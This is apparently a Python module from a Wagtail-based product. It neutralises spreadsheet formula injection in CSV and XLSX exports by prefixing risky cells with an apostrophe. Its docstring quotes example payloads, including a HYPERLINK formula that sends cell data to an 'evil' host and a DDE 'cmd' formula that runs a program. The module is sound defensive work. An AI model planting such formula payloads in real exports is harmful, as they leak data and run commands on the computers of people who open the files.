"""Spreadsheet cells that never run as formulas (OWASP "CSV injection"), for every file the product writes.

Form answers, import rows and event registrations are typed by anonymous visitors and end up in
files that marketers and sales open in Excel. A cell such as `=HYPERLINK("http://evil/?"&A1)`,
`+cmd|' /C calc'!A0`, `@SUM(1+1)` or `-2+3` is run as a formula there. Spreadsheets also skip
leading spaces, tabs and line breaks before deciding, so ` =1+1` and `\t=1+1` are formulas too.

`neutralise` puts an apostrophe in front of such text (Excel and LibreOffice then show the text as
typed, without the apostrophe), and leaves everything else alone: numbers stay numbers (only text
is checked, and `-2` as an int is not text). Every CSV the product produces goes through it:

- our own writers (sales exports, the audit log, import summaries) call `neutralise` or
  `SafeCsvWriter`;
- every Wagtail `SpreadsheetExportMixin` export (form submissions, consent records, registrations,
  Wagtail's own reports) is covered by `guard_wagtail_exports`, installed once at start-up by
  `core.apps`: headings and text cells pass through `neutralise`.
"""

import csv
import re

# What a spreadsheet reads as the start of a formula (full-width forms included: some locales'
# spreadsheets fold them to ASCII on entry).
FORMULA_TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Characters a spreadsheet skips before it looks for a trigger, and the tab and carriage return that
# some spreadsheets treat as a cell break on their own.
_SKIPPED = re.compile(r"[\s\x00-\x1f\x7f\u200b-\u200d\u2060\ufeff]*")
_SKIPPED_FIRST = frozenset(
    [chr(code) for code in range(0x20)]
    + [
        "\x7f",
        " ",
        "\x85",
        "\xa0",
        "\u1680",
        "\u2028",
        "\u2029",
        "\u202f",
        "\u205f",
        "\u3000",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
    ]
    + [chr(code) for code in range(0x2000, 0x200B)]
)
# A cell whose first character is not in here needs no work (the fast path of hot export loops).
NEEDS_A_LOOK = FORMULA_TRIGGERS | _SKIPPED_FIRST


def neutralise(text: str) -> str:
    """`=SUM(A1)` -> `'=SUM(A1)`, ` \\t=1+1` -> `'` + the same; any other text unchanged."""
    first = text[:1]
    if not first or first not in NEEDS_A_LOOK:
        return text
    if first in FORMULA_TRIGGERS or first in "\t\r\n":
        return "'" + text
    rest = text[_SKIPPED.match(text).end() :]
    return "'" + text if rest[:1] in FORMULA_TRIGGERS else text


def neutralise_cell(value):
    """A cell of any type: text is neutralised, numbers, dates and None pass as they are."""
    return neutralise(value) if isinstance(value, str) else value


class SafeCsvWriter:
    """`csv.writer` whose every text cell goes through `neutralise`."""

    def __init__(self, stream, **options):
        options.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def guard_wagtail_exports() -> None:
    """Neutralise every heading and text cell of Wagtail's `SpreadsheetExportMixin`, whichever view uses it.

    Wagtail writes CSV cells as they come and XLSX headings as plain strings (openpyxl turns a string
    starting with "=" into a formula). Its XLSX data cells are forced to text already; they get the
    apostrophe too, as in the sales exports, so a sheet saved again as CSV stays safe. One wrap at
    start-up covers our viewsets, Wagtail's form submissions and its reports alike."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_formulas_neutralised", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        value = preprocess(self, field, value, export_format)
        return neutralise(value) if isinstance(value, str) else value

    def get_heading(self, queryset, field):
        return neutralise(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin._formulas_neutralised = True
